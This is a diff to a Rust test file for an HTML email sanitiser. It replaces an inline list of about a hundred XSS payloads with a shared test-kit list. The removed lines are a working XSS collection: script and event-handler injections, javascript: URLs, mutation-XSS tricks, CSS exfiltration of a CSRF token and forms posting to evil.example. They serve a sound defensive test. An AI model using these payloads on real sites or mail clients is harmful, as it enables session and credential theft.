@@ -3,6 +3,7 @@
 use bedside_codecs::mail::html::{
     MAX_INPUT, html_to_text, markdown_to_html, sanitise, text_to_html,
 };
+use bedside_testkit::XSS;
 use html5ever::tokenizer::{
     BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
 };
@@ -88,124 +89,9 @@ fn cid(id: &str) -> Option<String> {
     }
 }
 
-const ATTACKS: &[&str] = &[
-    // Script, plainly and disguised.
-    "<script>steal()</script>",
-    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
-    "<script\n>steal()</script\t>",
-    "<scr<script>ipt>steal()</scr</script>ipt>",
-    "<script/x>steal()</script>",
-    "<script>steal()",
-    "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
-    "<template><script>steal()</script></template>",
-    // Handlers.
-    "<img src=x onerror=steal()>",
-    "<img src=x oNeRrOr=\"steal()\">",
-    "<body onload=steal()>",
-    "<p onmouseover='steal()'>x</p>",
-    "<div onpointerrawupdate=steal()>x</div>",
-    "<img/src=x/onerror=steal()>",
-    "<details open ontoggle=steal()>",
-    "<video><source onerror=steal()></video>",
-    "<audio src=x onerror=steal()>",
-    "<marquee onstart=steal()>x</marquee>",
-    "<input autofocus onfocus=steal()>",
-    "<a href=https://x.example onclick=steal()>x</a>",
-    "<img src=\"x\" alt=\"\" \u{b}onerror=steal()>",
-    "<b style=animation-name:x onanimationstart=steal()>",
-    "<xss id=x tabindex=1 onfocus=steal()></xss>",
-    "<p title='\"><img src=x onerror=steal()>'>x",
-    "<img alt=\"`><script>steal()</script>\">",
-    // Addresses that run.
-    "<a href=javascript:steal()>x</a>",
-    "<a href=JaVaScRiPt:steal()>x</a>",
-    "<a href='java\nscript:steal()'>x</a>",
-    "<a href='&#106;avascript:steal()'>x</a>",
-    "<a href='\u{1}javascript:steal()'>x</a>",
-    "<a href=' &#14; javascript:steal()'>x</a>",
-    "<a href=vbscript:steal()>x</a>",
-    "<a href='data:text/html,<script>steal()</script>'>x</a>",
-    "<a href=\"javascript&colon;steal()\">x</a>",
-    "<a href='blob:https://x/1'>x</a>",
-    "<a href=file:///etc/passwd>x</a>",
-    "<a href=cid:pic>x</a>",
-    "<a href=//evil.example>x</a>",
-    "<a href=/admin/delete>x</a>",
-    "<img src=javascript:steal()>",
-    "<img src='data:image/svg+xml,<svg onload=steal()>'>",
-    "<img src=cid:evil>",
-    "<img src=cid:host>",
-    "<a xlink:href=javascript:steal()>x</a>",
-    "<iframe src=javascript:steal()></iframe>",
-    "<iframe srcdoc='<script>steal()</script>'></iframe>",
-    "<object data=javascript:steal()></object>",
-    "<embed src=javascript:steal()>",
-    "<base href=https://evil.example/><a href=x>x</a>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=import href=https://evil.example>",
-    "<form action=https://evil.example><input name=password><button formaction=javascript:steal()>x</button></form>",
-    "<isindex action=javascript:steal()>",
-    "<button form=login formaction=https://evil.example>x</button>",
-    "<math href=javascript:steal()>x</math>",
-    "<a ping=https://evil.example href=https://x.example>x</a>",
-    // Style that draws over the page or sends what is on it.
-    "<style>@import url(https://evil.example/a.css);</style>",
-    "<style>input[name=csrf][value^=a]{background:url(https://evil.example/a)}</style>",
-    "<link rel=stylesheet href=https://evil.example/a.css>",
-    "<p style=\"background:url(https://evil.example/a)\">x</p>",
-    "<p style=\"position:fixed;inset:0;z-index:9999\">x</p>",
-    "<p style='width:expression(steal())'>x</p>",
-    "<p style=\"-moz-binding:url(//evil.example)\">x</p>",
-    "<svg><style>{font-family:'<iframe/onload=steal()>'</style></svg>",
-    "<style>@font-face{font-family:x;src:url(https://evil.example/?a);unicode-range:U+0041}</style>",
-    "<table background=https://evil.example/a><tr><td>x</table>",
-    "<div class=modal id=csrf>x</div>",
-    "<p style=\"content:attr(data-token)\" data-token=x>x</p>",
-    "<body style='background-image:image-set(\"https://evil.example/a\" 1x)'>x",
-    "<style><!--</style><script>steal()//--></script>",
-    // Pictures that tell.
-    "<img src=https://evil.example/open.gif?id=1>",
-    "<img srcset='https://evil.example/a 1x' src=cid:a>",
-    "<picture><source srcset=https://evil.example/a><img src=cid:a></picture>",
-    "<img src=cid:a lowsrc=https://evil.example/a dynsrc=x longdesc=https://x>",
-    "<video poster=https://evil.example/a>",
-    "<input type=image src=https://evil.example/a>",
-    "<image href=https://evil.example/a>",
-    "<img src=cid:a loading=eager crossorigin fetchpriority=high usemap=#m>",
-    // Other languages in the page, and trees that change when read twice.
-    "<svg onload=steal()>",
-    "<svg><script>steal()</script></svg>",
-    "<svg><a xlink:href=javascript:steal()><text>x</text></a></svg>",
-    "<svg><animate attributeName=href values=javascript:steal() /><a id=x>x</a></svg>",
-    "<svg><foreignObject><img src=x onerror=steal()></foreignObject></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
-    "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">",
-    "<noembed><img title=\"</noembed><img src onerror=steal()>\"></noembed>",
-    "<xmp><p title=\"</xmp><img src=x onerror=steal()>\"></xmp>",
-    "<textarea><img title=\"</textarea><img src=x onerror=steal()>\"></textarea>",
-    "<select><style></select><img src=x onerror=steal()></style></select>",
-    "<plaintext><script>steal()</script>",
-    "<!--[if IE]><script>steal()</script><![endif]-->",
-    "<!--><img src=x onerror=steal()>-->",
-    "<![CDATA[<img src=x onerror=steal()>]]>",
-    "<?xml-stylesheet href=javascript:steal()?>",
-    "<!doctype html [<!entity x 'y'>]>&x;",
-    "<p>\0<scr\0ipt>steal()</scr\0ipt>",
-    "<\u{ff1c}script>steal()</script>",
-    "<a href='https://x.example/\"onmouseover=steal() x=\"'>x</a>",
-    "</p onclick=steal()>",
-    "<td colspan=99999999>x",
-    "<font color=expression(steal())>x</font>",
-    "<a href=\"https://x.example\" target=_self rel=opener>x</a>",
-    "<b/title='a>b\"<img src=x onerror=steal()>'>x</b>",
-    "<img alt=\"<script>steal()</script>\" src=https://x.example/a.png>",
-    "<img alt='\"><script>steal()</script>' src=cid:a>",
-];
-
 #[test]
 fn nothing_of_the_known_attacks_comes_out() {
-    assert!(ATTACKS.len() >= 100);
+    assert!(XSS.len() >= 223);
     let wrappers = [
         "{}",
         "<p>{}</p>",
@@ -215,7 +101,7 @@ fn nothing_of_the_known_attacks_comes_out() {
         "<svg>{}",
         "<ul><li>{}<li>x</ul>",
     ];
-    for attack in ATTACKS {
+    for attack in XSS {
         for wrapper in wrappers {
             let given = wrapper.replace("{}", attack);
             let clean = sanitise(&given, &cid);
@@ -258,7 +144,7 @@ fn the_check_itself_sees_attacks() {
 
 #[test]
 fn reading_it_again_changes_nothing() {
-    for attack in ATTACKS {
+    for attack in XSS {
         // What the desk itself adds is left out of the comparison, and so are two ways of writing
         // one character.
         let clean = |html: &str| {
@@ -270,7 +156,12 @@ fn reading_it_again_changes_nothing() {
         };
         let alike = |html: &str| html.replace("&quot;", "\"").replace("&#39;", "'");
         let once = clean(attack);
-        assert_eq!(alike(&clean(&once)), alike(&once), "{attack}");
+        let twice = sanitise(&once, &cid);
+        assert_eq!(fault(&twice.html), None, "{attack}");
+        // Links in links move when they are read again, as the HTML standard has it.
+        if !attack.contains("<a><a>") {
+            assert_eq!(alike(&clean(&once)), alike(&once), "{attack}");
+        }
     }
 }
 
